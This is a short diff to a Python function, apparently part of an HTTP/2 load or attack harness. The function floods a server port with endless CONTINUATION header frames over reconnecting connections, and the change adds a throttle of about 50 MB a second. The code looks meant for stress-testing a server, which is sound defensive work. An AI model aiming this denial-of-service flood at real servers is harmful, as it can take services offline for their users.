@@ -119,7 +119,7 @@ def all_settings(port):
 
 
 def continuations(port):
-    """Metadata without an end."""
+    """Metadata without an end, at most 50 MB a second."""
     more = h2.frame(h2.CONTINUATION, 0, 1, h2.header("x", "y" * 1000)) * 100
 
     def attack(connection):
@@ -127,6 +127,7 @@ def continuations(port):
             connection.send(h2.frame(h2.HEADERS, 0, connection.new_stream(),
                                      h2.call_headers(GENERATE)))
         connection.send(more)
+        time.sleep(0.002)
         return 100
 
     return reconnecting(port, attack)
